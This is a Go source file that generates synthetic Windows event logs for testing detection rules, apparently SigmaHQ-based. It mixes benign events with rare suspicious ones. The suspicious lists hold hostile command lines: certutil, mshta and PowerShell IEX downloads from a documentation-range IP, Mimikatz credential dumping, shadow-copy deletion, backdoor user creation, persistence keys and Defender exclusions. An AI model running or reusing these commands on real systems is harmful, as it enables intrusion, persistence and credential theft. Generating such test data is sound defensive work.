package windowsmix

import (
	"fmt"
	"strings"
)

var (
	sysmonProvider     = provider{"Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"}
	securityProvider   = provider{"Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}"}
	bitsProvider       = provider{"Microsoft-Windows-Bits-Client", "{ef1cc15b-46c1-414e-bb95-e76b077bd51e}"}
	powershellProvider = provider{"Microsoft-Windows-PowerShell", "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"}
	scmProvider        = provider{"Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}"}
	rdpProvider        = provider{"Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", "{1139c61b-b549-4251-8ed3-27250a1edec8}"}
	defenderProvider   = provider{"Microsoft-Windows-Windows Defender", "{11cd958a-c507-4ef3-b3f2-5fd9dfbd2c78}"}

	sysmonChannel = "Microsoft-Windows-Sysmon/Operational"

	hosts = []string{"WS-0042.corp.example.com", "WS-0107.corp.example.com", "SRV-FILE01.corp.example.com", "SRV-DC01.corp.example.com", "WS-0219.corp.example.com"}
	users = []string{`CORP\erin`, `CORP\bob`, `CORP\alice`, `NT AUTHORITY\SYSTEM`, `NT AUTHORITY\LOCAL SERVICE`, `CORP\svc_backup`}
)

// process is a benign process and a command line it runs with.
type process struct{ image, commandLine, parent string }

var benignProcesses = []process{
	{`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, `C:\Windows\System32\services.exe`},
	{`C:\Windows\System32\svchost.exe`, `C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p`, `C:\Windows\System32\services.exe`},
	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US`, `C:\Program Files\Google\Chrome\Application\chrome.exe`},
	{`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService`, `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`},
	{`C:\Windows\System32\RuntimeBroker.exe`, `C:\Windows\System32\RuntimeBroker.exe -Embedding`, `C:\Windows\System32\svchost.exe`},
	{`C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\SearchProtocolHost.exe`, `"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe1`, `C:\Windows\System32\SearchIndexer.exe`},
	{`C:\Windows\System32\taskhostw.exe`, `taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}`, `C:\Windows\System32\svchost.exe`},
	{`C:\Windows\System32\backgroundTaskHost.exe`, `"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider`, `C:\Windows\System32\svchost.exe`},
	{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\erin\Documents\Q3 report.docx"`, `C:\Windows\explorer.exe`},
	{`C:\Program Files\Microsoft OneDrive\OneDrive.exe`, `"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background`, `C:\Windows\explorer.exe`},
	{`C:\Windows\System32\cmd.exe`, `C:\Windows\system32\cmd.exe /c "C:\Scripts\backup.cmd"`, `C:\Windows\System32\svchost.exe`},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -File C:\Scripts\inventory.ps1`, `C:\Windows\System32\svchost.exe`},
	{`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, `C:\Windows\System32\svchost.exe`},
	{`C:\Program Files\Windows Defender\MpCmdRun.exe`, `"C:\Program Files\Windows Defender\MpCmdRun.exe" -wdenable`, `C:\Windows\System32\svchost.exe`},
	{`C:\Windows\System32\gpupdate.exe`, `gpupdate.exe /target:computer`, `C:\Windows\System32\svchost.exe`},
}

// suspiciousProcesses are command lines SigmaHQ process_creation rules detect.
var suspiciousProcesses = []process{
	{`C:\Windows\System32\whoami.exe`, `whoami /all`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoP -NonI -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`},
	{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\Users\Public\a.exe`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Users\Public\update.dll,DllRegisterServer`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\reg.exe`, `reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d C:\Users\Public\u.exe /f`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\schtasks.exe`, `schtasks.exe /create /tn "Windows Update Check" /tr C:\Users\Public\u.exe /sc onlogon /ru SYSTEM`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\net.exe`, `net user helpdesk P@ssw0rd! /add`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\mshta.exe`, `mshta.exe http://198.51.100.7/p.hta`, `C:\Windows\explorer.exe`},
	{`C:\Windows\System32\wbem\WMIC.exe`, `wmic.exe /node:10.0.0.12 process call create "cmd.exe /c C:\Users\Public\u.exe"`, `C:\Windows\System32\cmd.exe`},
}

func (g *gen) process() process {
	if g.rare() {
		return pick(g, suspiciousProcesses)
	}
	return pick(g, benignProcesses)
}

func (g *gen) guid() string {
	return fmt.Sprintf("{%08X-%04X-%04X-%04X-%012X}", g.r.Uint32(), g.r.IntN(1<<16), g.r.IntN(1<<16), g.r.IntN(1<<16), g.r.Uint64()&(1<<48-1))
}

func (g *gen) utc() string { return g.at.UTC().Format("2006-01-02 15:04:05.000") }

func sysmon(id, task int) header {
	return header{provider: sysmonProvider, eventID: id, channel: sysmonChannel, task: task, userSID: "S-1-5-18"}
}

func sysmonProcess(g *gen) (header, object) {
	p := g.process()
	name := p.image[strings.LastIndexByte(p.image, '\\')+1:]
	return sysmon(1, 1), object{
		{"RuleName", "-"}, {"UtcTime", g.utc()}, {"ProcessGuid", g.guid()}, {"ProcessId", 1000 + g.r.IntN(60000)},
		{"Image", p.image}, {"FileVersion", "10.0.19041.1"}, {"Description", strings.TrimSuffix(name, ".exe")},
		{"Product", "Microsoft® Windows® Operating System"}, {"Company", "Microsoft Corporation"}, {"OriginalFileName", name},
		{"CommandLine", p.commandLine}, {"CurrentDirectory", `C:\Windows\system32\`}, {"User", pick(g, users)},
		{"LogonGuid", g.guid()}, {"LogonId", fmt.Sprintf("0x%x", g.r.Uint32())}, {"TerminalSessionId", g.r.IntN(3)},
		{"IntegrityLevel", pick(g, []string{"Medium", "High", "System"})},
		{"Hashes", fmt.Sprintf("SHA1=%040X,MD5=%032X", g.r.Uint64(), g.r.Uint64())},
		{"ParentProcessGuid", g.guid()}, {"ParentProcessId", 500 + g.r.IntN(9000)}, {"ParentImage", p.parent},
		{"ParentCommandLine", p.parent}, {"ParentUser", pick(g, users)},
	}
}

var (
	benignDestinations     = []string{"13.107.4.52", "142.250.185.78", "20.190.159.2", "52.96.165.18", "10.0.0.10", "10.0.0.53"}
	suspiciousDestinations = []string{"198.51.100.7", "203.0.113.66"}
)

func sysmonNetwork(g *gen) (header, object) {
	p, ip, port := pick(g, benignProcesses), pick(g, benignDestinations), pick(g, []int{443, 443, 443, 80, 53, 445, 135})
	if g.rare() {
		p, ip, port = process{image: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`}, pick(g, suspiciousDestinations), pick(g, []int{4444, 8080, 80})
	}
	return sysmon(3, 3), object{
		{"RuleName", "-"}, {"UtcTime", g.utc()}, {"ProcessGuid", g.guid()}, {"ProcessId", 1000 + g.r.IntN(60000)},
		{"Image", p.image}, {"User", pick(g, users)}, {"Protocol", "tcp"}, {"Initiated", "true"},
		{"SourceIsIpv6", "false"}, {"SourceIp", fmt.Sprintf("10.0.%d.%d", g.r.IntN(4), 2+g.r.IntN(250))}, {"SourceHostname", "-"},
		{"SourcePort", 49152 + g.r.IntN(16000)}, {"SourcePortName", "-"}, {"DestinationIsIpv6", "false"},
		{"DestinationIp", ip}, {"DestinationHostname", "-"}, {"DestinationPort", port}, {"DestinationPortName", "-"},
	}
}

var (
	benignDLLs = []string{`C:\Windows\System32\ntdll.dll`, `C:\Windows\System32\kernel32.dll`, `C:\Windows\System32\KernelBase.dll`,
		`C:\Windows\System32\user32.dll`, `C:\Windows\System32\advapi32.dll`, `C:\Windows\System32\combase.dll`,
		`C:\Windows\System32\ole32.dll`, `C:\Windows\System32\crypt32.dll`, `C:\Windows\System32\wintrust.dll`,
		`C:\Windows\System32\winhttp.dll`, `C:\Windows\System32\wininet.dll`, `C:\Windows\System32\bcrypt.dll`}
	suspiciousDLLs = []struct{ image, dll string }{
		{`C:\Users\Public\u.exe`, `C:\Windows\System32\vaultcli.dll`},
		{`C:\Windows\System32\rundll32.exe`, `C:\Windows\System32\dbghelp.dll`},
		{`C:\Users\erin\Downloads\invoice.exe`, `C:\Windows\System32\samlib.dll`},
		{`C:\Users\Public\svchost.exe`, `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\clr.dll`},
	}
)

func sysmonImageLoad(g *gen) (header, object) {
	image, dll := pick(g, benignProcesses).image, pick(g, benignDLLs)
	if g.rare() {
		s := pick(g, suspiciousDLLs)
		image, dll = s.image, s.dll
	}
	name := dll[strings.LastIndexByte(dll, '\\')+1:]
	return sysmon(7, 7), object{
		{"RuleName", "-"}, {"UtcTime", g.utc()}, {"ProcessGuid", g.guid()}, {"ProcessId", 1000 + g.r.IntN(60000)},
		{"Image", image}, {"ImageLoaded", dll}, {"FileVersion", "10.0.19041.1"}, {"Description", name},
		{"Product", "Microsoft® Windows® Operating System"}, {"Company", "Microsoft Corporation"}, {"OriginalFileName", name},
		{"Hashes", fmt.Sprintf("SHA256=%064X", g.r.Uint64())}, {"Signed", "true"}, {"Signature", "Microsoft Windows"},
		{"SignatureStatus", "Valid"}, {"User", pick(g, users)},
	}
}

var (
	benignFiles = []string{`C:\Users\erin\AppData\Local\Temp\chrome_BITS_1234.tmp`, `C:\Windows\Prefetch\CHROME.EXE-5FE9A9B3.pf`,
		`C:\Users\bob\Downloads\report.pdf`, `C:\Users\alice\AppData\Local\Microsoft\Teams\current\resources.pak`,
		`C:\Windows\Temp\MpCmdRun.log`, `C:\ProgramData\Microsoft\Windows Defender\Scans\History\CacheManager\1.bin`}
	suspiciousFiles = []string{`C:\Users\erin\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\update.lnk`,
		`C:\Users\Public\u.exe`, `C:\Windows\Temp\x.ps1`, `C:\Users\bob\AppData\Local\Temp\mimikatz.exe`}
)

func sysmonFile(g *gen) (header, object) {
	image, target := pick(g, benignProcesses).image, pick(g, benignFiles)
	if g.rare() {
		image, target = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, pick(g, suspiciousFiles)
	}
	return sysmon(11, 11), object{
		{"RuleName", "-"}, {"UtcTime", g.utc()}, {"ProcessGuid", g.guid()}, {"ProcessId", 1000 + g.r.IntN(60000)},
		{"Image", image}, {"TargetFilename", target}, {"CreationUtcTime", g.utc()}, {"User", pick(g, users)},
	}
}

var (
	benignKeys = []string{`HKU\S-1-5-21-1-2-3-1104\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx\MRUListEx`,
		`HKLM\SYSTEM\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1-2-3-1104\Device\HarddiskVolume3\Windows\explorer.exe`,
		`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WindowsUpdate\Auto Update\LastOnlineScanTimeForAppCategory`,
		`HKU\S-1-5-21-1-2-3-1105\Software\Microsoft\Office\16.0\Common\Roaming\Identities\ConnectedAccountWamOverride`}
	suspiciousKeys = []struct{ key, details string }{
		{`HKU\S-1-5-21-1-2-3-1104\Software\Microsoft\Windows\CurrentVersion\Run\Updater`, `C:\Users\Public\u.exe`},
		{`HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Users\Public`, `DWORD (0x00000000)`},
		{`HKLM\SYSTEM\CurrentControlSet\Control\Lsa\DisableRestrictedAdmin`, `DWORD (0x00000000)`},
	}
)

func sysmonRegistry(g *gen) (header, object) {
	image, key, details := pick(g, benignProcesses).image, pick(g, benignKeys), "DWORD (0x00000001)"
	if g.rare() {
		s := pick(g, suspiciousKeys)
		image, key, details = `C:\Windows\System32\reg.exe`, s.key, s.details
	}
	return sysmon(13, 13), object{
		{"RuleName", "-"}, {"EventType", "SetValue"}, {"UtcTime", g.utc()}, {"ProcessGuid", g.guid()},
		{"ProcessId", 1000 + g.r.IntN(60000)}, {"Image", image}, {"TargetObject", key}, {"Details", details},
		{"User", pick(g, users)},
	}
}

var (
	benignQueries     = []string{"www.google.com", "login.microsoftonline.com", "outlook.office365.com", "teams.microsoft.com", "settings-win.data.microsoft.com", "dc01.corp.example.com", "wpad"}
	suspiciousQueries = []string{"a1b2c3.ngrok-free.app", "pastebin.com", "api.telegram.org", "raw.githubusercontent.com"}
)

func sysmonDNS(g *gen) (header, object) {
	image, query := pick(g, benignProcesses).image, pick(g, benignQueries)
	if g.rare() {
		image, query = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, pick(g, suspiciousQueries)
	}
	return sysmon(22, 22), object{
		{"RuleName", "-"}, {"UtcTime", g.utc()}, {"ProcessGuid", g.guid()}, {"ProcessId", 1000 + g.r.IntN(60000)},
		{"QueryName", query}, {"QueryStatus", "0"}, {"QueryResults", "type:  5 " + query + ";::ffff:13.107.4.52;"},
		{"Image", image}, {"User", pick(g, users)},
	}
}

func security(id, task int) header {
	return header{provider: securityProvider, eventID: id, channel: "Security", task: task}
}

func securityLogon(g *gen) (header, object) {
	logonType := pick(g, []int{2, 3, 3, 3, 5, 5, 7, 10})
	process := `C:\Windows\System32\services.exe`
	if logonType == 3 {
		process = "-"
	}
	return security(4624, 12544), object{
		{"SubjectUserSid", "S-1-5-18"}, {"SubjectUserName", "WS-0042$"}, {"SubjectDomainName", "CORP"}, {"SubjectLogonId", "0x3e7"},
		{"TargetUserSid", "S-1-5-21-1-2-3-1104"}, {"TargetUserName", pick(g, []string{"erin", "bob", "alice", "svc_backup", "SYSTEM"})},
		{"TargetDomainName", "CORP"}, {"TargetLogonId", fmt.Sprintf("0x%x", g.r.Uint32())}, {"LogonType", logonType},
		{"LogonProcessName", pick(g, []string{"User32", "NtLmSsp", "Kerberos", "Advapi"})},
		{"AuthenticationPackageName", pick(g, []string{"Negotiate", "NTLM", "Kerberos"})},
		{"WorkstationName", "WS-0107"}, {"LogonGuid", g.guid()}, {"TransmittedServices", "-"}, {"LmPackageName", "-"},
		{"KeyLength", 0}, {"ProcessId", "0x2e4"}, {"ProcessName", process}, {"IpAddress", pick(g, []string{"10.0.0.5", "10.0.1.17", "-", "127.0.0.1"})},
		{"IpPort", "0"}, {"ImpersonationLevel", "%%1833"}, {"ElevatedToken", "%%1842"},
	}
}

func securityFailedLogon(g *gen) (header, object) {
	return security(4625, 12544), object{
		{"SubjectUserSid", "S-1-0-0"}, {"SubjectUserName", "-"}, {"SubjectDomainName", "-"}, {"SubjectLogonId", "0x0"},
		{"TargetUserSid", "S-1-0-0"}, {"TargetUserName", pick(g, []string{"administrator", "admin", "bob", "scanner"})},
		{"TargetDomainName", "CORP"}, {"Status", "0xc000006d"}, {"FailureReason", "%%2313"}, {"SubStatus", pick(g, []string{"0xc000006a", "0xc0000064"})},
		{"LogonType", pick(g, []int{3, 10})}, {"LogonProcessName", "NtLmSsp "}, {"AuthenticationPackageName", "NTLM"},
		{"WorkstationName", "-"}, {"ProcessName", "-"}, {"IpAddress", pick(g, []string{"10.0.0.5", "203.0.113.66"})}, {"IpPort", "0"},
	}
}

func securityProcess(g *gen) (header, object) {
	p := g.process()
	return security(4688, 13312), object{
		{"SubjectUserSid", "S-1-5-21-1-2-3-1104"}, {"SubjectUserName", "erin"}, {"SubjectDomainName", "CORP"},
		{"SubjectLogonId", fmt.Sprintf("0x%x", g.r.Uint32())}, {"NewProcessId", fmt.Sprintf("0x%x", 1000+g.r.IntN(60000))},
		{"NewProcessName", p.image}, {"TokenElevationType", "%%1938"}, {"ProcessId", fmt.Sprintf("0x%x", 500+g.r.IntN(9000))},
		{"CommandLine", p.commandLine}, {"TargetUserSid", "S-1-0-0"}, {"TargetUserName", "-"}, {"TargetDomainName", "-"},
		{"TargetLogonId", "0x0"}, {"ParentProcessName", p.parent}, {"MandatoryLabel", "S-1-16-8192"},
	}
}

func bitsClient(g *gen) (header, object) {
	url := pick(g, []string{"http://msedge.b.tlu.dl.delivery.mp.microsoft.com/filestreamingservice/files/5b8e3b7c", "http://dl.google.com/update2/1.3.36.352/GoogleUpdateSetup.exe"})
	if g.rare() {
		url = "http://198.51.100.7/a.exe"
	}
	id := pick(g, []int{3, 59, 60})
	h := header{provider: bitsProvider, eventID: id, channel: "Microsoft-Windows-Bits-Client/Operational", task: 0, userSID: "S-1-5-18"}
	if id == 3 {
		return h, object{{"jobTitle", "Edge Update"}, {"jobId", g.guid()}, {"jobOwner", `NT AUTHORITY\SYSTEM`}, {"processPath", `C:\Windows\System32\svchost.exe`}, {"processId", 1234}}
	}
	return h, object{
		{"transferId", g.guid()}, {"name", "Edge Update"}, {"Id", g.guid()}, {"url", url}, {"peer", ""},
		{"fileTime", "2026-07-28T09:00:00.000Z"}, {"fileLength", 1048576}, {"bytesTotal", 1048576}, {"bytesTransferred", 1048576},
		{"proxy", "0"}, {"peerProtocolFlags", 0}, {"bytesTransferredFromPeer", 0}, {"AdditionalInfoHr", 0},
		{"PeerContextInfo", 0}, {"bandwidthLimit", 0}, {"ignoreBandwidthLimitsOnLan", "false"},
	}
}

var (
	benignScripts     = []string{"prompt", "$global:?", "Get-ChildItem -Path C:\\Scripts -Filter *.log | Remove-Item", "Import-Module ActiveDirectory", "Get-Service | Where-Object {$_.Status -eq 'Running'}", "Set-StrictMode -Version 1; $_.ErrorCategory_Message"}
	suspiciousScripts = []string{"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", "Invoke-Mimikatz -DumpCreds", "[System.Convert]::FromBase64String('SQBFAFgA') | Invoke-Expression", "Add-MpPreference -ExclusionPath C:\\Users\\Public"}
)

func powershellScript(g *gen) (header, object) {
	text := pick(g, benignScripts)
	if g.rare() {
		text = pick(g, suspiciousScripts)
	}
	h := header{provider: powershellProvider, eventID: 4104, channel: "Microsoft-Windows-PowerShell/Operational", task: 2, userSID: "S-1-5-21-1-2-3-1104"}
	return h, object{{"MessageNumber", 1}, {"MessageTotal", 1}, {"ScriptBlockText", text}, {"ScriptBlockId", g.guid()}, {"Path", ""}}
}

func system(g *gen) (header, object) {
	h := header{provider: scmProvider, channel: "System", task: 0}
	if g.rare() {
		h.eventID = 7045
		return h, object{{"ServiceName", "PSEXESVC"}, {"ImagePath", `%SystemRoot%\PSEXESVC.exe`}, {"ServiceType", "user mode service"}, {"StartType", "demand start"}, {"AccountName", "LocalSystem"}}
	}
	h.eventID = 7036
	return h, object{{"param1", pick(g, []string{"Windows Update", "Background Intelligent Transfer Service", "WinHTTP Web Proxy Auto-Discovery Service", "Windows Modules Installer"})}, {"param2", pick(g, []string{"running", "stopped"})}}
}

func application(g *gen) (header, object) {
	switch g.r.IntN(3) {
	case 0:
		h := header{provider: provider{"Application Error", ""}, eventID: 1000, channel: "Application", task: 100}
		return h, object{{"Data", []string{"chrome.exe", "120.0.6099.130", "65a1b2c3", "chrome.dll", "120.0.6099.130", "65a1b2c3", "c0000005", "0000000001e2f3a4", "1f2c", "01da1234", `C:\Program Files\Google\Chrome\Application\chrome.exe`, `C:\Program Files\Google\Chrome\Application\120.0.6099.130\chrome.dll`, g.guid()}}}
	case 1:
		h := header{provider: provider{"Windows Error Reporting", ""}, eventID: 1001, channel: "Application", task: 0}
		return h, object{{"Data", []string{"1234567890", "5", "APPCRASH", "Not available", "0", "chrome.exe", "120.0.6099.130"}}}
	}
	h := header{provider: provider{"MsiInstaller", ""}, eventID: 1033, channel: "Application", task: 0}
	return h, object{{"Data", []string{"Microsoft Teams", "1.6.00.4472", "1033", "0", "Microsoft Corporation", "(NULL)"}}}
}

func rdpCore(g *gen) (header, object) {
	h := header{provider: rdpProvider, eventID: 131, channel: "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational", task: 4, userSID: "S-1-5-20"}
	return h, object{{"ConnType", "TCP"}, {"ClientIP", fmt.Sprintf("10.0.%d.%d:%d", g.r.IntN(4), 2+g.r.IntN(250), 49152+g.r.IntN(16000))}}
}

func defender(g *gen) (header, object) {
	h := header{provider: defenderProvider, eventID: 1116, channel: "Microsoft-Windows-Windows Defender/Operational", task: 0, userSID: "S-1-5-18"}
	return h, object{
		{"Product Name", "Microsoft Defender Antivirus"}, {"Product Version", "4.18.24090.11"}, {"Detection ID", g.guid()},
		{"Threat Name", pick(g, []string{"HackTool:Win32/Mimikatz", "Trojan:Win32/Wacatac.B!ml", "PUA:Win32/Presenoker"})},
		{"Severity Name", "High"}, {"Category Name", "Tool"}, {"Path", `file:_C:\Users\bob\AppData\Local\Temp\mimikatz.exe`},
		{"Detection Origin Name", "Local machine"}, {"Execution Name", "Not Applicable"}, {"Process Name", `C:\Windows\explorer.exe`},
	}
}
